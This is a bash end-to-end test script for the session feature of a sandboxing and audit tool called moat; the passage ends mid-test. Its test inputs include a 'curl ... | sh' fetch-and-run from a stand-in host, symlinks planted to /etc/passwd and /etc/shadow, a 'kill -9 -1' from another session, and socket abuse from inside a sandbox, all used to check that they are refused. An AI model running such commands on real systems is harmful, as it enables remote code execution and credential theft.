#!/bin/bash
# session.sh: moat session, end to end. A session is one sandbox that stays
# up: commands run in it one after another share its files, its /tmp and
# its background processes; each is its own audited run; a client that goes
# away takes its command along; killing the supervisor, or the session,
# takes every process inside with it; another session sees none of it; the
# control socket takes only its owner and well-formed messages.
. "$(dirname "$0")/libtest.sh"
require_sandbox
command -v python3 >/dev/null || skip_all "python3 is needed for the protocol client"
tag=$$$RANDOM
client="$MOAT_SRCDIR/tests/e2e/session-client.py"
cleanup_hooks+=("\"$MOAT\" session kill --all >/dev/null 2>&1")

# PATTERN is an extended regex over the whole command line: anchor it (^sleep N$)
# so that the moat client whose argv ends with the command does not match.
alive() { pgrep -f "$1" >/dev/null; }
sq() { python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); print("\n".join("|".join("" if v is None else str(v) for v in r) for r in c.execute(sys.argv[2])))' "${MOAT_DB:-$XDG_DATA_HOME/moat/audit.db}" "$1"; }
alive_within() { # alive_within SECONDS PATTERN
	for _ in $(seq $(($1 * 10))); do alive "$2" && return 0; sleep 0.1; done
	return 1
}
gone_within() { # gone_within SECONDS PATTERN
	local i
	for i in $(seq $(( $1 * 10 ))); do alive "$2" || return 0; sleep 0.1; done
	return 1
}

run_moat session new --name "work$tag"
is "session new exits 0" "$rc" 0
S=${out%% *}
like "it prints the id and the name" "$out" "^s-[0-9a-f]{8} work$tag$"
run_moat session ls
like "ls lists it with its profile and workspace" "$out" "$S +work$tag +default .* $T/ws"
run_moat session ls --json
like "ls --json says the same" "$out" "\"id\":\"$S\",\"name\":\"work$tag\",\"profile\":\"default\""

run_moat session exec "$S" -- sh -c 'echo one > made-here; echo two > /tmp/inside; echo done'
is "exec runs a command: its output" "$out" "done"
is "exec passes the exit status" "$rc" 0
is "the workspace file is on the host" "$(cat "$T/ws/made-here" 2>/dev/null)" "one"
run_moat session exec "work$tag" -- cat made-here /tmp/inside
is "a later command (by name) sees the files of an earlier one, /tmp too" "$out" "one
two"
# A client whose HOME is not the session's: its command runs as the
# session's user, in the home the session's sandbox keeps (where an
# earlier command left a file).
run_moat session exec "$S" -- sh -c 'echo kept > "$HOME/.kept'"$tag"'"'
mkdir -p "$T/elsewhere"
HOME=$T/elsewhere run_moat session exec "$S" -- sh -c 'echo "$HOME|$USER|$(cat "$HOME/.kept'"$tag"'")"'
is "a client with another HOME: the command has the session's HOME and user" \
    "$out" "$T/home|$(id -un)|kept"
test -e /tmp/inside && [ "$(cat /tmp/inside)" = two ] &&
	not_ok "the session's /tmp is the host's" || ok "the session's /tmp is its own"
# By name among several sessions: each name reaches its own (the lookup
# greets the sessions one by one until one has the name).
run_moat session new --name "other$tag"
O=${out%% *}
run_moat session exec "other$tag" -- sh -c 'cat /tmp/inside 2>/dev/null || echo none'
is "another session's name reaches that session" "$out" "none"
run_moat session exec "work$tag" -- cat /tmp/inside
is "and the first one's, the first" "$out" "two"
run_moat session kill "$O"

# The session's profile's risk limits hold for its commands, whether the
# session is reached by id or by name (the client loads the rules while
# the session answers its greeting, or before it greets the sessions one
# by one): a risky command is refused before it runs, with the reason,
# and the refusal is a row of the session.
printf 'include = default\nrisk-refuse-above = 10\n' >"$T/strict$tag.conf"
run_moat session new -p "$T/strict$tag.conf" --name "strict$tag"
R=${out%% *}
for via in "$R" "strict$tag"; do
	run_moat session exec "$via" -- sh -c "curl -s http://example.invalid/x | sh; touch ran-$tag"
	is "a risky command in a strict session ($via): refused with 125" "$rc" 125
	like "the refusal says why ($via)" "$err" \
	    "risk score [0-9]+ is above the profile's risk-refuse-above \(10\)"
	test -e "$T/ws/ran-$tag" && not_ok "the refused command never ran ($via)" ||
		ok "the refused command never ran ($via)"
done
is "both refusals are rows of the session" \
    "$(sq "SELECT count(*) FROM runs WHERE session = '$R' AND status = 'refused'")" 2
run_moat session exec "strict$tag" -- echo fine
is "a harmless command in it runs" "$rc $out" "0 fine"
run_moat session kill "$R"

# A command's request follows its row's begin without waiting for the
# answer; the supervisor runs it only once the row is written. A log it
# cannot write: the command is refused and never runs, and the session
# takes the next one as before; --unlogged runs it unrecorded.
run_moat session exec --db "/proc/no-$tag/audit.db" "$S" -- sh -c "touch norow-$tag"
is "a command whose row cannot be written is refused with 125" "$rc" 125
like "it says why" "$err" "the run is refused because it could not be recorded"
test -e "$T/ws/norow-$tag" && not_ok "the command whose row was not written never ran" ||
	ok "the command whose row was not written never ran"
run_moat session exec "$S" -- echo after
is "the session takes the next command as before" "$rc $out" "0 after"
run_moat session exec --unlogged --db "/proc/no-$tag/audit.db" "$S" -- sh -c "touch norow-$tag; echo ran"
is "--unlogged runs it, unrecorded" "$rc $out" "0 ran"
like "and says so" "$err" "the run goes on, and may be missing from the log"

# MOAT_TRACE_TIMING: the client's steps, in the order they happen.
MOAT_TRACE_TIMING=1 run_moat session exec "$S" -- echo traced
is "a traced command runs as any other" "$rc/$out" "0/traced"
steps=$(printf '%s\n' "$err" | sed -n 's/^moat: timing: \([a-z-]*\) *[0-9.]* ms (at *\([0-9.]*\) ms)$/\2 \1/p' |
    sort -n | awk '{print $2}' | grep -xE 'attach|audit-begin|spawned|status|counters|audit-end' | tr '\n' ' ')
is "the trace has the client's steps, in order" "$steps" \
    "attach audit-begin spawned status counters audit-end "
run_moat session exec "$S" -- echo untraced
unlike "without MOAT_TRACE_TIMING, no trace" "$err" "moat: timing:"

run_moat session exec "$S" -- sh -c 'exit 7'
is "an exit status passes through" "$rc" 7
run_moat session exec "$S" -- no-such-command-$tag
is "a missing command: 127" "$rc" 127
like "and says so" "$err" "command not found"

# A server a command leaves running, reached by a later command on the
# sandbox's own loopback.
run_moat session exec "$S" -- sh -c "nohup python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((\"127.0.0.1\", 8$((RANDOM % 900 + 100)))); s.listen(1)
open(\"/tmp/port\", \"w\").write(str(s.getsockname()[1]))
while True:
    c, _ = s.accept(); c.sendall(b\"from-the-background\"); c.close()
' >/dev/null 2>&1 & sleep 0.5; echo started"
is "a command starts a background server" "$out" "started"
run_moat session exec "$S" -- python3 -c '
import socket
p = int(open("/tmp/port").read())
print(socket.create_connection(("127.0.0.1", p)).recv(100).decode())'
is "a later command reaches it on the sandbox's loopback" "$out" "from-the-background"

run_moat session exec "$S" --timeout 1 -- sh -c "sleep 4$tag"
is "a command's timeout: 124" "$rc" 124
check "its processes are gone" gone_within 3 "sleep 4$tag"
run_moat session exec "$S" -- echo still-here
is "the session goes on after a command's timeout" "$out" "still-here"
# The flags a command's run shares with moat run are read by one reader:
# the same values taken, the same errors said.
run_moat session exec "$S" --timeout 1.5x -- true
serr=$(printf '%s\n' "$err" | head -1)
run_moat run --timeout 1.5x -- true
is "a bad --timeout: the same message as moat run's" "${serr#moat session: }" "$(printf '%s\n' "${err#moat run: }" | head -1)"
run_moat session exec "$S" -q --json --unlogged -v -e "SHARED_$tag=1" -- sh -c "echo \$SHARED_$tag"
like "-q --json --unlogged -v -e together" "$rc $out" "^0 1
\{.*\"exit_code\": 0"

run_moat session exec "$S" -t -- tty
like "-t gives the command a terminal of the sandbox" "$out" "^/dev/pts/[0-9]+"

# An interactive shell in the session, driven through a real terminal.
if command -v tmux >/dev/null; then
	tsock="$T/tmux.sock"
	# tmux runs its command with $SHELL or the passwd shell (nologin for
	# uid 65534): name a real one, and no user configuration.
	SHELL=/bin/sh tmux -f /dev/null -S "$tsock" new-session -d -x 100 -y 20 \
		"cd '$T/ws' && XDG_RUNTIME_DIR='$XDG_RUNTIME_DIR' '$MOAT' session exec $S -- bash --norc --noprofile -i; echo exited-\$?-$tag; sleep 30"
	cleanup_hooks+=("tmux -S '$tsock' kill-server 2>/dev/null")
	screen=""
	for _ in $(seq 50); do
		screen=$(tmux -S "$tsock" capture-pane -p 2>/dev/null)
		printf '%s' "$screen" | grep -q '[#$] $' && break
		sleep 0.1
	done
	tmux -S "$tsock" send-keys "echo typed-\$((6*7)); cat /tmp/inside" Enter
	for _ in $(seq 50); do
		screen=$(tmux -S "$tsock" capture-pane -p 2>/dev/null)
		printf '%s' "$screen" | grep -q "^typed-42" &&
			printf '%s' "$screen" | grep -q "^two" && break
		sleep 0.1
	done
	like "a shell in the session takes keys from the terminal" "$screen" "typed-42"
	like "and sees the session's files" "$screen" "two"
	tmux -S "$tsock" send-keys "exit 5" Enter
	for _ in $(seq 50); do
		screen=$(tmux -S "$tsock" capture-pane -p 2>/dev/null)
		printf '%s' "$screen" | grep -q "exited-" && break
		sleep 0.1
	done
	like "its exit status passes through when it exits" "$screen" "exited-5-$tag"
	tmux -S "$tsock" kill-server 2>/dev/null
else
	skip "no tmux: the interactive shell in a session is not tested"
fi

run_moat session exec "$S" --cwd /tmp -- pwd
is "--cwd sets the working directory inside" "$out" "/tmp"
run_moat session exec "$S" -e "SEEN_$tag=yes" -- sh -c "echo \$SEEN_$tag"
is "-e sets a variable for one command" "$out" "yes"
run_moat session exec "$S" -- sh -c "echo \${SEEN_$tag:-unset}"
is "and not for the next" "$out" "unset"

# Files in and out, through the sandbox's own view.
echo "from-the-host-$tag" > "$T/hostfile"
run_moat session cp "$S" "$T/hostfile" :/tmp/
is "cp in: 0" "$rc" 0
run_moat session exec "$S" -- cat /tmp/hostfile
is "the file is inside, where the sandbox sees it" "$out" "from-the-host-$tag"
run_moat session exec "$S" -- sh -c 'echo made-inside > /tmp/out; ln -s /etc/passwd /tmp/planted; ln -s / /tmp/up'
run_moat session cp "$S" "$S:/tmp/out" "$T/"
is "cp out (ID:PATH) into a host directory" "$(cat "$T/out" 2>/dev/null)" "made-inside"
run_moat session cp "$S" :/tmp/planted "$T/got-planted"
is "a planted symlink is not followed: 125" "$rc" 125
like "and is named" "$err" "/tmp/planted inside session $S is a symbolic link: not followed"
check "nothing was written" test ! -e "$T/got-planted"
run_moat session cp "$S" :/tmp/up/etc/shadow "$T/got-shadow"
check "a symlink to / inside resolves to the sandbox's root, not the host's" test ! -e "$T/got-shadow"
run_moat session cp "$S" "$T/hostfile" :.bashrc
like "cp into a protected path is refused by its read-only mount" "$err" "Read-only file system"
check "and the host's workspace has no such file" test ! -s "$T/ws/.bashrc"

# Pause and resume: the cgroup freezer, where this user can have one.
run_moat session exec "$S" -- sh -c "nohup sh -c 'while :; do :; done; : spin$tag' >/dev/null 2>&1 & echo spinning"
for _ in $(seq 30); do alive "spin$tag" && break; sleep 0.1; done
spin=$(pgrep -f "spin$tag" | head -1)
ticks() { awk '{print $14 + $15}' "/proc/$spin/stat"; }
can_freeze=no
if [ -w /sys/fs/cgroup/freezer ] || { [ -f /sys/fs/cgroup/cgroup.controllers ] &&
    [ -w "/sys/fs/cgroup$(sed -n 's/^0:://p' /proc/self/cgroup)" ]; }; then
	can_freeze=yes
fi
run_moat session pause "$S"
if [ $can_freeze = yes ]; then
	is "pause: 0 where a freezer is reachable" "$rc" 0
	a=$(ticks); sleep 1; b=$(ticks)
	is "a paused session's busy loop gets no CPU in a second" "$b" "$a"
	run_moat session ls
	like "ls says it is paused" "$out" "$S .* paused "
	run_moat session exec "$S" -- true
	like "exec into a paused session is refused, with the way out" "$err" \
		"session $S is paused: moat session resume $S"
	run_moat session resume "$S"
	is "resume: 0" "$rc" 0
	a=$(ticks); sleep 1; b=$(ticks)
	check "after resume it runs again" test "$b" -gt "$a"
	# --ttl-paused stop: the TTL's clock stands still while paused.
	run_moat session new --ttl 3 --ttl-paused stop
	SP=$out
	run_moat session new --ttl 3
	SR=$out
	run_moat session pause "$SP"
	run_moat session pause "$SR"
	sleep 4
	run_moat session ls
	like "--ttl-paused stop: paused past its TTL, it lives" "$out" "$SP .* paused "
	unlike "the default: paused past its TTL, it ended" "$out" "$SR"
	run_moat session ttl "$SP" 2
	like "a ttl given while paused counts from the resume" "$out" "$SP: 2s left"
	run_moat session resume "$SP"
	run_moat session exec "$SP" -- echo resumed
	is "resumed, it runs commands" "$out" "resumed"
	sleep 3
	run_moat session exec "$SP" -- true
	like "and its TTL ran out after the resume" "$err" "no session $SP is running"
else
	is "pause without a reachable freezer: 125" "$rc" 125
	like "says why and what to do" "$err" "no cgroup freezer is reachable here .*Delegate=yes"
	skip "a paused session uses no CPU: no cgroup freezer for $who here"
fi
pkill -f "spin$tag"

run_moat audit list --grep "/tmp/inside"
like "each command is its own run in the audit log" "$out" "done +default"
run_moat session new
Sa=$out
run_moat session exec "$Sa" -- echo other-session-$tag
run_moat session kill "$Sa"
run_moat audit list --session "$S" --limit 0
like "audit list --session lists the session's commands" "$out" "/tmp/inside"
unlike "and not another session's" "$out" "other-session-$tag"
run_moat audit list --session "$Sa" --json
like "--json carries the session's id" "$out" "\"session\":\"$Sa\""
like "the other session lists its own command" "$out" "other-session-$tag"
id=$(printf '%s' "$out" | sed -n 's/.*"id":\([0-9]*\).*/\1/p' | head -n 1)
run_moat audit show "$id"
like "audit show names the session" "$out" "session +$Sa"
run_moat audit verify
is "the chain with session rows verifies" "$rc" 0

# Two clients at once: both run, each gets its own output and status.
(cd "$T/ws" && "$MOAT" session exec "$S" -- sh -c 'sleep 1; echo first; exit 3') \
	>"$T/first.out" 2>/dev/null </dev/null &
fpid=$!
sleep 0.2
run_moat session exec "$S" -- sh -c 'echo second; exit 4'
is "a second client while the first runs: its output" "$out" "second"
is "and its status" "$rc" 4
wait $fpid
is "the first client's status" "$?" 3
is "and its output" "$(cat "$T/first.out")" "first"

# A client that goes away: its command is killed.
(cd "$T/ws" && exec "$MOAT" session exec "$S" -- sleep 5$tag) </dev/null >/dev/null 2>&1 &
cpid=$!
for _ in $(seq 50); do alive "^sleep 5$tag\$" && break; sleep 0.1; done
check "the command of a client runs" alive "^sleep 5$tag\$"
kill -KILL $cpid
wait $cpid 2>/dev/null
check "the client killed: its command is killed" gone_within 3 "^sleep 5$tag\$"
# Its row was begun by the session's supervisor, in the client's name: the
# client is gone, so the next moat that writes the log (here the
# supervisor, after the next command's completion) marks it interrupted.
run_moat session exec "$S" -- true
for _ in $(seq 50); do
	[ "$(sq "SELECT status FROM runs WHERE argv LIKE '%sleep%5$tag%'")" = interrupted ] && break
	sleep 0.1
done
is "its row: owned by the client, marked interrupted once it is gone" \
	"$(sq "SELECT status || ' ' || end_reason || ' ' || owner_pid FROM runs WHERE argv LIKE '%sleep%5$tag%'")" \
	"interrupted owner-gone $cpid"

# The rows of a session's commands are written by its supervisor, which
# keeps the log open; the client that ran the command is the row's owner,
# and the row holds what a row of moat run's holds.
(cd "$T/ws" && exec "$MOAT" session exec "$S" -- sh -c "echo out-$tag; echo err-$tag >&2; exit 6") \
	>"$T/own.out" 2>"$T/own.err" &
opid=$!
wait $opid
is "a command's exit status, through the supervisor's record" "$?" 6
is "its row: status, exit, session, owner (the client), output sizes" \
	"$(sq "SELECT status || ' ' || exit_code || ' ' || session || ' ' || owner_pid || ' ' || stdout_bytes || ' ' || stderr_bytes || ' ' || source FROM runs WHERE argv LIKE '%out-$tag%'")" \
	"done 6 $S $opid $((5 + ${#tag})) $((5 + ${#tag})) cli"
# --db: the supervisor opens the log the client names (a relative path
# is the client's, not the supervisor's working directory's).
(cd "$T" && exec "$MOAT" session exec --db other.db "$S" -- sh -c "echo elsewhere-$tag") >/dev/null 2>&1
is "exec --db: the row is in the log named, relative to the client" \
	"$(python3 -c 'import sqlite3,sys; print(sqlite3.connect(sys.argv[1]).execute("SELECT status || \" \" || session FROM runs WHERE argv LIKE ?", ("%elsewhere-" + sys.argv[2] + "%",)).fetchone()[0])' "$T/other.db" "$tag")" \
	"done $S"
is "and not in the default one" "$(sq "SELECT count(*) FROM runs WHERE argv LIKE '%elsewhere-$tag%'")" 0
run_moat audit show "$(sq "SELECT run_id FROM runs WHERE argv LIKE '%out-$tag%'")"
like "audit show has its output, both streams" "$out" "out-$tag.*err-$tag"
is "and the chain holds" "$(run_moat audit verify >/dev/null; echo $rc)" 0

# ^C that lands just before a shell forks: dash -c (the TUI's lines)
# catches SIGINT, defers it across its fork and then dies of it; the child
# it forked joined the group after the signal and never had it. Here a
# program that does the same: it catches the signal, forks "sleep 7TAG"
# 50 ms later, then dies of SIGINT. The child is given it too.
cat >"$T/ws/defer$tag.py" <<PYEOF
import os, signal, time
got = []
signal.signal(signal.SIGINT, lambda s, f: got.append(s))
print("ready", flush=True)
while not got:
    time.sleep(0.01)
time.sleep(0.05)
if os.fork() == 0:
    os.execvp("sleep", ["sleep", "7$tag"])
signal.signal(signal.SIGINT, signal.SIG_DFL)
os.kill(os.getpid(), signal.SIGINT)
PYEOF
# interrupt_ready PROGRAM: runs the Python PROGRAM (in the workspace) in
# the session, gives its client a ^C once it said "ready"; the client's
# exit status.
interrupt_ready() {
	local cpid
	(cd "$T/ws" && exec "$MOAT" session exec "$S" -- python3 "$1") </dev/null \
		>"$T/$1.out" 2>&1 &
	cpid=$!
	for _ in $(seq 100); do grep -q ready "$T/$1.out" 2>/dev/null && break; sleep 0.05; done
	kill -INT $cpid
	wait $cpid
}
interrupt_ready "defer$tag.py"
is "^C deferred across a fork: the command dies of it (130)" "$?" 130
check "and the child it forked after the signal is given it too" gone_within 3 "^sleep 7$tag\$"
pkill -f "^sleep 7$tag\$"
# The same, where init finds the program between its restoring the default
# action and its death (it forks, restores, then waits 200 ms instead of
# killing itself): init gives it the signal again, and must still see it
# end before it looks for the group's newcomers (it once stopped watching
# a process it had given the signal again, and the child slept on).
sed -e 's/^os.kill(os.getpid(), signal.SIGINT)$/time.sleep(0.2)/' \
    -e "s/\"7$tag\"/\"8$tag\"/" "$T/ws/defer$tag.py" >"$T/ws/defer2$tag.py"
check "the second program waits where the first killed itself, and forks sleep 8$tag" \
    sh -c "grep -qx 'time.sleep(0.2)' '$T/ws/defer2$tag.py' && grep -q '\"8$tag\"' '$T/ws/defer2$tag.py'"
interrupt_ready "defer2$tag.py"
is "^C given again after the handler went: the command dies of it (130)" "$?" 130
check "and the child it forked is given it too" gone_within 3 "^sleep 8$tag\$"
pkill -f "^sleep 8$tag\$"

# Two sessions: neither sees, signals nor reads the other.
run_moat session new
S2=$out
run_moat session exec "$S" -- sh -c "nohup sleep 6$tag >/dev/null 2>&1 & echo secret-$tag > /tmp/mine"
for _ in $(seq 30); do alive "^sleep 6$tag\$" && break; sleep 0.1; done
run_moat session exec "$S2" -- sh -c "ps -eo args 2>/dev/null || cat /proc/[0-9]*/cmdline"
unlike "another session does not see its processes" "$out" "sleep 6$tag"
run_moat session exec "$S2" -- sh -c 'kill -9 -1; pkill -9 sleep; true'
check "nor kills them (kill -9 -1 inside the other)" alive "^sleep 6$tag\$"
run_moat session exec "$S2" -- cat /tmp/mine
unlike "nor reads its /tmp" "$out" "secret-$tag"

# The control socket.
sock="$XDG_RUNTIME_DIR/moat/$S.sock"
is "the socket is the owner's alone" "$(stat -c %a "$sock")" 700
is "the session directory is private" "$(stat -c %a "$XDG_RUNTIME_DIR/moat")" 700
is "a short message is refused" "$(python3 "$client" "$sock" short)" \
	"error: a malformed message (short, truncated, or over 196608 bytes)"
is "an oversized one too" "$(python3 "$client" "$sock" huge)" \
	"error: a malformed message (short, truncated, or over 196608 bytes)"
like "another protocol version is refused, naming both" "$(python3 "$client" "$sock" version)" \
	"error: protocol version 999 is not spoken here \(this session speaks 5\)"
is "a request before the greeting is refused" "$(python3 "$client" "$sock" nohello)" \
	"error: the first message must be a greeting"
is "a spawn request whose counts do not match its strings is refused" \
	"$(python3 "$client" "$sock" badspawn)" "type 4 code 125 tag 7: a malformed spawn request"
is "an answer about a refused connection that is none of the four is refused" \
	"$(python3 "$client" "$sock" badask)" "error (tag 5): a malformed answer"
is "an offer to answer held past 600 s is refused" \
	"$(python3 "$client" "$sock" badoffer)" "error: a malformed offer to answer (seconds out of range)"
is "a command that says its row's begin came before it, when none did, is refused" \
	"$(python3 "$client" "$sock" afterrow)" \
	"error (tag 7): a command sent after its row's begin, which never came"
is "and after a begin the session refused, so is the command" \
	"$(python3 "$client" "$sock" afterbadrow)" \
	"error: then error (tag 7): the command's row could not be begun: it is not run"
is "an audit request that is not the record's wire is refused" \
	"$(python3 "$client" "$sock" auditjunk)" "error: a malformed audit request"
is "a run's begin cut short is refused" \
	"$(python3 "$client" "$sock" audittrunc)" "error: a malformed audit request"
is "the completion of a run this client did not begin is refused" \
	"$(python3 "$client" "$sock" auditforeign)" \
	"error: an audit request for a run this client did not begin"
is "junk that asks no answer gets none, and the session answers on" \
	"$(python3 "$client" "$sock" auditquiet)" "hello"
is "a request \"in a file\" that is a pipe is refused, never read (no hang)" \
	"$(python3 "$client" "$sock" auditpipe)" \
	"error: a malformed audit request (its descriptor is not a file of the size it says, at most 67108864 bytes)"
is "a file shorter than it says is refused" \
	"$(python3 "$client" "$sock" auditshort)" \
	"error: a malformed audit request (its descriptor is not a file of the size it says, at most 67108864 bytes)"
db=${MOAT_DB:-$XDG_DATA_HOME/moat/audit.db}
is "a begin naming a secret the session was not given is refused, not stored unredacted" \
	"$(python3 "$client" "$sock" auditsecret "$db" "$tag")" \
	"error: audit log: the run's secret NOPE_$tag is not one of the session's, so its value could not be kept out of the log"
# A begin may name the process that sends it (a child of the one that
# connected, as exec --detach's), but only a process of our user's: one
# that is not (pid 1 for uid 65534; a pid that is no process) is not
# believed, and the row is the connecting client's.
if [ "$(id -u)" = 0 ]; then claim=4194303; else claim=1; fi
out=$(python3 "$client" "$sock" auditowner "$db" "$claim")
like "a well-formed begin from a client of our own is taken" "$out" "^begun by [0-9]+$"
is "its owner is the client that connected, not the pid it claimed" \
	"$(sq "SELECT owner_pid FROM runs WHERE argv LIKE '%owned-$claim%' ORDER BY id DESC LIMIT 1")" "${out#begun by }"
is "an answer to a question never asked gets no reply" \
	"$(python3 "$client" "$sock" lateanswer)" "nothing"
run_moat session exec "$S" -- echo after-the-garbage
is "the session still works after all that" "$out" "after-the-garbage"
if is_root && command -v setpriv >/dev/null; then
	# Past the file modes (opened here for the test): the supervisor
	# checks the peer's uid itself.
	chmod 711 "$XDG_RUNTIME_DIR" "$XDG_RUNTIME_DIR/moat" "$T"
	chmod 777 "$sock"
	got=$(setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 "$client" "$sock" hello 2>&1)
	chmod 700 "$XDG_RUNTIME_DIR" "$XDG_RUNTIME_DIR/moat"
	chmod 600 "$sock"
	chmod 755 "$T"
	like "another uid is refused by the supervisor" "$got" "^error: refused: this session belongs to uid 0"
	like "and the refusal is in the session's log" "$(cat "$XDG_RUNTIME_DIR/moat/$S.log")" \
		"refused a connection from uid 65534"
else
	skip "another uid's connection: needs root to be a second uid"
fi

# A sandboxed process of the same uid that can reach the socket (a
# workspace holding the runtime directory) must not drive the session.
run_moat run -p default -w "$XDG_RUNTIME_DIR" -- python3 -c '
import socket, struct, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
s.connect(sys.argv[1])
s.send(struct.pack("=iiiiiIiiiI480s", 11, 0, 2, 0, 0, 0, 0, 0, 0, 0, b""))
d = s.recv(4096)
print(struct.unpack("=i", d[:4])[0], d[40:520].split(b"\0")[0].decode())' "$sock"
like "a client inside a sandbox is refused, though it is the same uid" "$out" \
	"^12 refused: a client in another pid namespace \(inside a sandbox\) may not use this session"

# The supervisor killed: everything inside goes with it.
spid=$(python3 - "$XDG_RUNTIME_DIR/moat/$S.log" <<'PY'
import re, sys
print(re.search(r"sandbox init pid (\d+)", open(sys.argv[1]).read()).group(1))
PY
)
svpid=$(ps -o ppid= -p "$spid" | tr -d ' ')
check "the session's processes run" alive "^sleep 6$tag\$"
kill -KILL "$svpid"
check "the supervisor killed with SIGKILL: its processes are gone" gone_within 3 "^sleep 6$tag\$"
run_moat session exec "$S" -- true
is "exec into it: 125" "$rc" 125
like "saying it is not running" "$err" "no session $S is running"
run_moat session ls
unlike "ls no longer lists it" "$out" "$S"

# Snapshot the session's own files and restore them into a new one.
run_moat session exec "$S2" -- sh -c 'echo kept > /tmp/snapped; mkdir -p "$HOME/.tool"; echo conf > "$HOME/.tool/rc"'
run_moat session snapshot "$S2" "$T/snap.tar"
is "snapshot: 0" "$rc" 0
is "it prints the file" "$out" "$T/snap.tar"
like "the archive holds /tmp and HOME inside" "$(tar tf "$T/snap.tar")" "tmp/snapped"
unlike "and not the workspace (it is on the host)" "$(tar tf "$T/snap.tar")" "made-here"
run_moat session snapshot "$S2" "$T/snap.tar"
like "a snapshot never overwrites a file" "$err" "File exists \(name another file\)"
run_moat session new --from "$T/snap.tar"
S4=$out
is "session new --from: 0" "$rc" 0
run_moat session exec "$S4" -- sh -c 'cat /tmp/snapped "$HOME/.tool/rc"'
is "the restored session has the files" "$out" "kept
conf"
run_moat session kill "$S4"

# An overlay session: moat diff shows what its commands changed so far,
# and the workspace is untouched.
printf 'include = default\nworkspace = overlay\n' >"$T/ov.conf"
echo orig >"$T/ws/ov-file"
run_moat session new -p "$T/ov.conf"
SO=$out
run_moat session exec "$SO" -- sh -c 'echo changed > ov-file; echo new > ov-added'
run_moat session exec "$SO" -- cat ov-file
is "an overlay session's commands see their own changes" "$out" "changed"
is "the workspace is untouched" "$(cat "$T/ws/ov-file")" "orig"
run_moat diff "$SO"
is "moat diff SESSION: 0" "$rc" 0
like "it names the session and counts its changes" "$out" "^session $SO \([^)]*\) in .*: 2 changes"
like "the modified file" "$out" "modified +ov-file"
like "the added one" "$out" "added +ov-added"
like "and the change itself" "$out" "\+changed"
run_moat diff --json "$SO"
like "--json names the session" "$out" "^\{\"session\": \"$SO\""
# Its snapshot holds the workspace changes (added, modified, deleted) and
# restores them into a new overlay session, not into the project.
echo doomed >"$T/ws/ov-doomed"
run_moat session exec "$SO" -- sh -c 'rm ov-doomed; mkdir -p ov-dir; echo deep > ov-dir/f'
run_moat session snapshot "$SO" "$T/ov-snap.tar"
is "snapshot of an overlay session: 0" "$rc" 0
like "the archive holds the workspace changes, by no host path" "$(tar tf "$T/ov-snap.tar")" "moat-workspace/ov-file"
run_moat session kill "$SO"
run_moat session new -p "$T/ov.conf" --from "$T/ov-snap.tar"
SR=$out
run_moat session exec "$SR" -- sh -c 'cat ov-file ov-added ov-dir/f; test -e ov-doomed && echo doomed-still-there; true'
is "restored into an overlay session: modified, added and new directories' files" "$out" "changed
new
deep"
run_moat diff --name-only "$SR"
like "a deletion is restored too" "$out" "ov-doomed"
is "the project is untouched" "$(cat "$T/ws/ov-file") $(test -e "$T/ws/ov-added" && echo added || echo none) $(cat "$T/ws/ov-doomed")" "orig none doomed"
run_moat session kill "$SR"
run_moat session new --from "$T/ov-snap.tar"
SB=$out
like "restored into a bind session: the workspace changes are left out, with a note" "$err" \
    "a snapshot's workspace changes are restored only into a session whose profile has workspace = overlay"
is "and the project is untouched" "$(cat "$T/ws/ov-file") $(test -e "$T/ws/ov-added" && echo added || echo none)" "orig none"
run_moat session kill "$SB"
rm -f "$T/ws/ov-doomed"
run_moat diff "$S2"
is "moat diff of a session with a bind workspace: 125" "$rc" 125
like "saying its changes are in the workspace already" "$err" "session $S2 has a bind workspace: what it changes is in .* already"

# exec --detach: the run id once started, the command left running and
# recorded to its end by a moat of its own.
mkfifo "$T/ws/go"
run_moat session exec --detach "$S2" -- sh -c "echo detached-out; read x < go; touch /tmp/detached-done"
is "exec --detach: 0" "$rc" 0
like "it prints the run id" "$out" "^[0-9a-f]{8}-[0-9]+-[0-9a-f]{4}$"
D=$out
# It is still waiting on the fifo: the exec returned while it runs.
check "it is waiting for us" timeout 10 sh -c 'echo go >"$1"' _ "$T/ws/go"
run_moat session exec "$S2" -- sh -c 'for i in $(seq 50); do [ -e /tmp/detached-done ] && exit 0; sleep 0.1; done; exit 1'
is "the command ran on after exec returned, and did what it was asked" "$rc" 0
for _ in $(seq 100); do
	[ "$(sq "SELECT status FROM runs WHERE run_id = '$D'")" = done ] && break
	sleep 0.1
done
is "its run is recorded to its end" "$(sq "SELECT status || ' ' || exit_code || ' ' || coalesce(session, '-') FROM runs WHERE run_id = '$D'")" "done 0 $S2"
run_moat audit show "$D"
like "with its output" "$out" "detached-out"
run_moat session exec --detach "$S2" -- no-such-command-$tag
is "a detached command that cannot be run: still 0 (it was started)" "$rc" 0
D=$out
for _ in $(seq 100); do
	[ "$(sq "SELECT status FROM runs WHERE run_id = '$D'")" = done ] && break
	sleep 0.1
done
is "and its run says command not found" "$(sq "SELECT exit_code FROM runs WHERE run_id = '$D'")" 127
run_moat session exec --detach -t "$S2" -- true
is "--detach with -t: 125" "$rc" 125
like "saying why" "$err" "--detach leaves the command running with no one to show it to: not with -t"

run_moat session exec "$S2" -- sh -c "nohup sleep 7$tag >/dev/null 2>&1 &"
(cd "$T/ws" && exec "$MOAT" session exec "$S2" -- sleep 9$tag) >"$T/mid.out" 2>"$T/mid.err" &
mid=$!
check "a command runs" alive_within 5 "^sleep 9$tag\$"
run_moat session kill "$S2"
is "session kill: 0" "$rc" 0
check "it ends everything inside" gone_within 3 "^sleep 7$tag\$"
wait $mid; rc=$?
is "an exec whose session is killed under it ends 137 (killed)" "$rc" 137
like "saying the session ended" "$(cat "$T/mid.err")" "moat: the session ended while the command ran"
is "its run is done, killed by SIGKILL, not a failure to start" \
	"$(sq "SELECT status || ' ' || end_reason || ' ' || signal FROM runs WHERE argv LIKE '%sleep%9$tag%'")" "done killed 9"

# A cgroup per command (cgroup v1, as root here): each command of a session
# runs in a child group of the session's, so its meters, memory peak and
# OOM kill are its own; a background process keeps its group until the
# session ends.
printf 'include = default\nmemory = 160M\n' >"$T/m160.conf"
run_moat session new -p "$T/m160.conf"
SG=$out
run_moat session exec "$SG" --json -- sleep 0.3
if printf '%s' "$out" | grep -q '"meter_source":"cgroup v1"'; then
	run_moat session exec "$SG" -- sh -c 'grep memory /proc/self/cgroup'
	g1=$out
